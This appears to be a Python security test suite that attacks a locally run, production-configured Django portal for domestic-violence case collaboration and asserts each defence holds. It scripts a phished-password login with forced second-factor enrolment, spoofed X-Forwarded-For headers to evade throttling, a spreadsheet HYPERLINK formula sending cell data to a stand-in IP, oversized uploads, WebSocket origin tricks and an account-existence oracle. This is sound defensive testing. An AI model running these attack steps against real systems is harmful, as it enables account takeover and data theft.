"""The attack suite: a production server (``portal.settings.production``, the entrypoint's uvicorn
flags) attacked from outside over HTTP and WebSocket, as someone whose only aim is to get in.

The attacker knows a partner's password (phished) but not the second factor, can forge any
header, and scripts freely. Each attack is one function that returns what it saw; the proof fails
when any attack gets through. The unit tests prove each rule as a class; this proves that the
running production shape holds.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import csv
import io
import re
import time
from collections.abc import Callable

import websockets

from . import world
from .infra import Stack
from .report import Report
from .web import Client, Response, leaks

DEMO_PASSWORD = "VeiligHuis-demo-2026"  # noqa: S105 - the published demo password: the attacker knows it
PHISHED = "partner@caw.example"
# Paths an attacker tries for a sign-in form: ours, every library's default, every language.
LOGIN_PATHS = (
    "/account/aanmelden/",
    "/en/account/aanmelden/",
    "/_util/login/",
    "/en/_util/login/",
    "/nl-be/_util/login/",
    "/cms/login/",
    "/en/cms/login/",
    "/django-admin/login/",
    "/en/django-admin/login/",
    "/accounts/login/",
    "/login/",
    "/admin/login/",
)
SETUP_PATH = "/account/tweestapsverificatie/instellen/"
QR_PATH = "/account/tweestapsverificatie/qr/"
INPUT = re.compile(r"<input\b[^>]*>", re.IGNORECASE)
ATTR = re.compile(r'(\w[\w-]*)="([^"]*)"')


def _inputs(html: str) -> list[dict[str, str]]:
    return [dict(ATTR.findall(tag)) for tag in INPUT.findall(html)]


def _post_login_form(client: Client, path: str, email: str, password: str) -> Response | None:
    """Fill whatever sign-in form ``path`` shows (hidden fields kept) with email and password."""
    page = client.get(path)
    if page.status != 200:
        return None
    fields = _inputs(page.body)
    if not any(f.get("type") == "password" for f in fields):
        return None
    data: dict[str, str] = {}
    for field in fields:
        name = field.get("name")
        if not name:
            continue
        kind = field.get("type", "text")
        if kind == "password":
            data[name] = password
        elif kind == "hidden":
            data[name] = field.get("value", "")
        elif kind in ("email", "text") and ("user" in name or "mail" in name):
            data[name] = email
    return client.post(path, data, headers={"Referer": f"http://127.0.0.1:{client.port}{path}"})


def _signed_in(client: Client) -> bool:
    """Does the server treat this client as signed in at all (password-only included)?"""
    return client.get("/account/").status == 200


def _reaches_case_data(client: Client) -> bool:
    return client.get("/samenwerking/").status == 200


def _totp(secret_b32: str) -> str:
    """The code the attacker's own authenticator app shows for the key the wizard revealed."""
    from django_otp.oath import totp

    key = base64.b32decode(secret_b32 + "=" * (-len(secret_b32) % 8))
    return f"{totp(key, step=30, t0=0, digits=6, drift=0):06d}"


def _try_enrol(client: Client) -> str:
    """With a password-only session, try to enrol the attacker's own authenticator through
    every step of the setup wizard (POST without the GET that used to guard it)."""
    attempts = []
    for step in ("welcome", "method", "generator"):
        data = {"setup_view-current_step": step}
        if step == "method":
            data["method-method"] = "generator"
        page = client.get(SETUP_PATH)
        with contextlib.suppress(AssertionError):
            data["csrfmiddlewaretoken"] = _csrf(page.body) or client.cookies.get(
                world.csrf_cookie_name(), ""
            )
        response = client.post(SETUP_PATH, data)
        attempts.append(f"{step}:{response.status}")
        secret = re.search(r'<code class="secret">([A-Z2-7]+)</code>', response.body)
        if secret:
            token = _totp(secret.group(1))
            final = client.post(
                SETUP_PATH,
                {
                    "setup_view-current_step": "generator",
                    "generator-token": token,
                    "csrfmiddlewaretoken": _csrf(response.body) or "",
                },
            )
            attempts.append(f"generator-token:{final.status}")
            break
    qr = client.get(QR_PATH)
    attempts.append(f"qr:{qr.status}")
    return ", ".join(attempts)


def _csrf(html: str) -> str | None:
    match = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', html)
    return match.group(1) if match else None


def attack_sign_in_routes(port: int, report: Report) -> None:
    """Every sign-in form anyone could find, with the phished password and no second factor;
    then the enrolment wizard from whatever session that left."""
    tried = 0
    for path in LOGIN_PATHS:
        client = Client(port)
        response = _post_login_form(client, path, PHISHED, DEMO_PASSWORD)
        if response is None:
            continue
        tried += 1
        signed_in = _signed_in(client)
        enrol = _try_enrol(client) if signed_in else "no session"
        reached = _reaches_case_data(client)
        report.check(
            not reached,
            f"password alone through {path} does not reach case data (enrolment tried: {enrol})",
        )
        if signed_in:
            report.figure(f"{path}: a password-only session (enrolment: {enrol})")
        client.close()
    report.check(tried >= 1, f"the attacker found {tried} sign-in form(s) to try")


def _throttle_target() -> str:
    """An account of the attack's own (password known, second factor enrolled), so the wait it
    ends up in does not lock out the demo people the later proofs sign in as."""
    from django_otp.plugins.otp_totp.models import TOTPDevice

    from portal.accounts.models import User

    email = "doelwit-aanval@politie.example"
    user = User.objects.filter(email=email).first() or User.objects.create_user(
        email=email, password=DEMO_PASSWORD, full_name="Doelwit Aanval (fictief)"
    )
    TOTPDevice.objects.get_or_create(user=user, name="default", defaults={"confirmed": True})
    return email


def attack_forged_addresses(port: int, report: Report) -> None:
    """Twelve wrong passwords from twelve forged addresses, then the right password: the
    per-account throttle must hold although no address repeats."""
    email = _throttle_target()
    last: Response | None = None
    for n in range(12):
        client = Client(port)
        headers = {"X-Forwarded-For": f"203.0.113.{n + 1}"}
        page = client.get("/account/aanmelden/", headers=headers)
        client.post(
            "/account/aanmelden/",
            {
                "csrfmiddlewaretoken": _csrf(page.body) or "",
                "sign_in_view-current_step": "auth",
                "auth-username": email,
                "auth-password": f"fout-wachtwoord-{n}",
            },
            headers=headers,
        )
        client.close()
    client = Client(port)
    headers = {"X-Forwarded-For": "198.51.100.77"}
    page = client.get("/account/aanmelden/", headers=headers)
    last = client.post(
        "/account/aanmelden/",
        {
            "csrfmiddlewaretoken": _csrf(page.body) or "",
            "sign_in_view-current_step": "auth",
            "auth-username": email,
            "auth-password": DEMO_PASSWORD,
        },
        headers=headers,
    )
    accepted = "token-otp_token" in last.body
    report.check(
        not accepted,
        "after 12 wrong passwords from 12 forged addresses the right password is not accepted "
        f"(status {last.status})",
    )


def attack_csv_injection(port: int, report: Report) -> None:
    """A sign-in name that is a spreadsheet formula, then the privacy officer's export."""
    formula = '=HYPERLINK("http://203.0.113.9/?x="&A1,"klik")'
    client = Client(port)
    page = client.get("/account/aanmelden/")
    client.post(
        "/account/aanmelden/",
        {
            "csrfmiddlewaretoken": _csrf(page.body) or "",
            "sign_in_view-current_step": "auth",
            "auth-username": formula,
            "auth-password": "wat-dan-ook-12345",
        },
    )
    client.close()
    officer = Client(
        port,
        cookies={world.session_cookie_name(): world.verified_session("privacy@veilighuis.example")},
    )
    export = officer.get("/audit/export.csv")
    report.check(
        export.status == 200, f"the privacy officer exports the audit log ({export.status})"
    )
    dangerous = [
        cell
        for row in csv.reader(io.StringIO(export.body))
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]
    report.check(not dangerous, f"no exported cell starts a formula ({dangerous[:2]})")


def attack_cache_headers(port: int, report: Report) -> None:
    client = Client(
        port,
        cookies={
            world.session_cookie_name(): world.verified_session("regisseur@veilighuis.example")
        },
    )
    for path in ("/samenwerking/", "/audit/", "/account/"):
        response = client.get(path)
        cache = next((v for k, v in response.headers.items() if k.lower() == "cache-control"), "")
        report.check(
            "no-store" in cache, f"{path} answers with Cache-Control no-store ({cache or 'none'})"
        )


def attack_oversized_body(port: int, report: Report) -> None:
    """A 60 MB document sent to the upload form (valid session and CSRF token): the server must
    refuse it while it streams in, not after reading it all."""
    import select
    import socket

    meeting = world.live_meeting()
    cookie_name = world.session_cookie_name()
    session = world.verified_session("regisseur@veilighuis.example")
    path = f"/samenwerking/dossiers/{meeting['case']}/documenten/nieuw/"
    form = Client(port, cookies={cookie_name: session})
    page = form.get(path)
    token = _csrf(page.body) or ""
    cookies = "; ".join(f"{k}={v}" for k, v in form.cookies.items())
    form.close()
    boundary = "vhproofboundary"
    head = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="csrfmiddlewaretoken"\r\n\r\n'
        f'{token}\r\n--{boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\n'
        f'Groot\r\n--{boundary}\r\nContent-Disposition: form-data; name="file"; '
        f'filename="groot.pdf"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.4\n'
    ).encode()
    size = 60 * 1024 * 1024
    tail = f"\r\n--{boundary}--\r\n".encode()
    length = len(head) + size + len(tail)
    sock = socket.create_connection(("127.0.0.1", port), timeout=30)
    sock.sendall(
        (
            f"POST {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nCookie: {cookies}\r\n"
            f"Content-Type: multipart/form-data; boundary={boundary}\r\n"
            f"Content-Length: {length}\r\nConnection: close\r\n\r\n"
        ).encode()
        + head
    )
    sent = 0
    chunk = b"0" * 65536
    started = time.monotonic()
    answer = b""
    with contextlib.suppress(OSError):
        while sent < size:
            readable, _w, _x = select.select([sock], [], [], 0)
            if readable:
                break  # the server answered before the body was complete
            sock.sendall(chunk)
            sent += len(chunk)
        if sent >= size:
            sock.sendall(tail)
    with contextlib.suppress(OSError):
        sock.settimeout(30)
        while b"\r\n\r\n" not in answer:
            data = sock.recv(65536)
            if not data:
                break
            answer += data
    sock.close()
    status_line = answer.split(b"\r\n", 1)[0].decode("latin-1", "replace")
    report.figure(
        f"60 MB upload: {status_line or 'no answer'} after {sent / 1e6:.1f} MB of the body "
        f"in {time.monotonic() - started:.1f} s"
    )
    report.check(
        sent < size and (" 413 " in status_line or " 400 " in status_line),
        "a 60 MB upload is refused while it streams in",
    )


async def _notes_socket(port: int, meeting_id: int, cookie: str, origin: str | None = None):
    return await websockets.connect(
        f"ws://127.0.0.1:{port}/ws/samenwerking/overleg/{meeting_id}/notities",
        origin=origin or f"http://127.0.0.1:{port}",
        additional_headers={"Cookie": cookie},
        open_timeout=10,
        ping_interval=None,
        max_size=None,
    )


async def _closed_within(ws, seconds: float) -> bool:
    deadline = time.monotonic() + seconds
    with contextlib.suppress(websockets.exceptions.ConnectionClosed):
        while time.monotonic() < deadline:
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(ws.recv(), timeout=deadline - time.monotonic())
        return False
    return True


async def _socket_attacks(port: int, report: Report) -> None:
    from collaboration.live_notes import protocol

    meeting = await asyncio.to_thread(world.live_meeting)
    cookie_name = await asyncio.to_thread(world.session_cookie_name)
    editor = meeting["editors"][0]

    # A foreign origin on the right host but another port or scheme is refused.
    for origin in (f"http://127.0.0.1:{port + 1}", f"https://127.0.0.1:{port}", "null"):
        session = await asyncio.to_thread(world.verified_session, editor)
        refused = False
        try:
            ws = await _notes_socket(port, meeting["id"], f"{cookie_name}={session}", origin)
        except websockets.exceptions.InvalidStatus:
            refused = True
        else:
            refused = await _closed_within(ws, 3)
            await ws.close()
        report.check(refused, f"a socket from origin {origin} is refused")

    # A malformed format value (a list where a scalar belongs) is not stored, and the meeting
    # page keeps answering.
    session = await asyncio.to_thread(world.verified_session, editor)
    ws = await _notes_socket(port, meeting["id"], f"{cookie_name}={session}")
    update = _hostile_update()
    with contextlib.suppress(websockets.exceptions.ConnectionClosed):
        await ws.send(protocol.sync_message(protocol.SYNC_UPDATE, update))
        await asyncio.sleep(0.5)
    with contextlib.suppress(Exception):
        await ws.close()
    reader = Client(port, cookies={cookie_name: session})
    for path in ("", "afronden/"):
        page = await asyncio.to_thread(reader.get, f"/samenwerking/overleg/{meeting['id']}/{path}")
        report.check(
            page.status == 200 and not leaks(page.body),
            f"/samenwerking/overleg/<id>/{path} answers after a malformed update ({page.status})",
        )

    # A socket ends when its session's password is changed elsewhere.
    session = await asyncio.to_thread(world.verified_session, editor)
    ws = await _notes_socket(port, meeting["id"], f"{cookie_name}={session}")
    other = await asyncio.to_thread(world.verified_session, editor)
    changed = await asyncio.to_thread(_change_password, port, cookie_name, other, editor)
    report.check(changed, "the password change form accepts the change")
    closed = await _closed_within(ws, 15)
    report.check(closed, "an open notes socket closes after a password change elsewhere")
    with contextlib.suppress(Exception):
        await ws.close()
    await asyncio.to_thread(_restore_password, editor)


def _hostile_update() -> bytes:
    from pycrdt import Doc, Text

    doc = Doc()
    text = doc.get("notes", type=Text)
    text.insert(0, "kop\n", {"header": [1]})  # a line format, as Quill sets it
    return doc.get_update()


def _change_password(port: int, cookie_name: str, session: str, email: str) -> bool:
    client = Client(port, cookies={cookie_name: session})
    page = client.get("/account/wachtwoord/")
    response = client.post(
        "/account/wachtwoord/",
        {
            "csrfmiddlewaretoken": _csrf(page.body) or "",
            "old_password": DEMO_PASSWORD,
            "new_password1": "Een-ander-lang-wachtwoord-2026",
            "new_password2": "Een-ander-lang-wachtwoord-2026",
        },
    )
    return response.status in (302, 303)


def _restore_password(email: str) -> None:
    from portal.accounts.models import User

    user = User.objects.get(email=email)
    user.set_password(DEMO_PASSWORD)
    user.save(update_fields=["password"])


def _options(html: str, name: str) -> list[tuple[str, str]]:
    select = re.search(rf'<select[^>]*name="{name}"[^>]*>(.*?)</select>', html, re.S)
    if not select:
        return []
    return [
        (value, re.sub(r"\s+", " ", label).strip())
        for value, label in re.findall(
            r'<option value="([^"]*)"[^>]*>(.*?)</option>', select.group(1), re.S
        )
        if value
    ]


def _membership_rows(email: str, organisation_id: int) -> int:
    from collaboration.models import Invitation, Membership

    return (
        Invitation.objects.filter(email__iexact=email, organisation_id=organisation_id).count()
        + Membership.objects.filter(user__email__iexact=email, organisation_id=organisation_id)
        .filter(is_active=True)
        .count()
    )


def attack_self_invitation(port: int, report: Report) -> None:
    """A coordinator invites their own address into the police: nobody invites themselves."""
    email = "coordinator@veilighuis.example"
    client = Client(port, cookies={world.session_cookie_name(): world.verified_session(email)})
    path = "/samenwerking/mensen/uitnodigen/"
    page = client.get(path)
    police = [value for value, label in _options(page.body, "organisation") if "olitie" in label]
    report.check(
        page.status == 200 and bool(police),
        f"the coordinator's invitation form offers the police ({page.status}, {len(police)})",
    )
    if not police:
        return
    roles = [value for value, _label in _options(page.body, "role")]
    before = _membership_rows(email, int(police[0]))
    response = client.post(
        path,
        {
            "csrfmiddlewaretoken": _csrf(page.body) or "",
            "email": email,
            "organisation": police[0],
            "role": roles[0] if roles else "partner",
        },
    )
    after = _membership_rows(email, int(police[0]))
    report.check(
        after == before and response.status in (200, 400) and not leaks(response.body),
        f"a self-invitation into the police is refused ({response.status}, rows {before}->{after})",
    )


def _peer_support_session(victim: str) -> str | None:
    """A coming peer-support session of the demo, with ``victim`` registered for it (as the
    partner the abuser wants to find out about would be)."""
    from django.utils import timezone

    from content.training.models import TrainingSession
    from content.training.models.sessions import RegistrationStatus, SessionRegistration

    session = (
        TrainingSession.objects.filter(kind="peer_support", starts_at__gt=timezone.now())
        .order_by("starts_at")
        .first()
    )
    if session is None:
        return None
    SessionRegistration.objects.get_or_create(
        session=session,
        email=victim,
        defaults={"display_name": "Roos", "status": RegistrationStatus.CONFIRMED},
    )
    return f"/vorming/sessies/{session.pk}/"


def _normalised(body: str) -> str:
    """The page without what differs on every request (tokens, time stamps)."""
    body = re.sub(r'(name="(csrfmiddlewaretoken|shown_at)"[^>]*value=")[^"]*"', r'\1"', body)
    return re.sub(r'(value="[^"]*"[^>]*name="(csrfmiddlewaretoken|shown_at)")', "", body)


def attack_peer_support_oracle(port: int, report: Report) -> None:
    """Does the survivors' session form tell an abuser whether an address is registered? The
    same address twice (the second time it is known), from fresh browsers, as a person would."""
    victim = "partner-van-de-pleger@example.org"
    path = _peer_support_session(victim)
    report.check(path is not None, "the demo has a peer-support session to attack")
    if path is None:
        return
    answers = []
    for email in (victim, "onbekend-adres@example.org"):
        client = Client(port)
        page = client.get(path)
        fields = {f.get("name"): f.get("value", "") for f in _inputs(page.body) if f.get("name")}
        time.sleep(3.2)  # the form's own minimum time to fill it in, as a person takes
        response = client.post(
            path,
            {
                "csrfmiddlewaretoken": fields.get("csrfmiddlewaretoken", ""),
                "shown_at": fields.get("shown_at", ""),
                "display_name": "Roos",
                "email": email,
            },
        )
        answers.append(response)
        client.close()
    known, new = answers
    report.check(
        known.status == new.status and _normalised(known.body) == _normalised(new.body),
        "a registered and a new address get the same answer from the peer-support form "
        f"({known.status} / {new.status})",
    )
    report.check(
        "al ingeschreven" not in known.body, "the answer never says the address is registered"
    )


ATTACKS: tuple[Callable[[int, Report], None], ...] = (
    attack_sign_in_routes,
    attack_forged_addresses,
    attack_self_invitation,
    attack_peer_support_oracle,
    attack_csv_injection,
    attack_cache_headers,
    attack_oversized_body,
)


def attacks(stack: Stack) -> Report:
    report = Report("Attacks from outside on the production settings")
    server = stack.server("attack-web")
    server.start()
    port = server.port
    for attack in ATTACKS:
        started = time.monotonic()
        attack(port, report)
        report.figure(f"{attack.__name__}: {time.monotonic() - started:.1f} s")
    started = time.monotonic()
    asyncio.run(_socket_attacks(port, report))
    report.figure(f"socket attacks: {time.monotonic() - started:.1f} s")
    return report
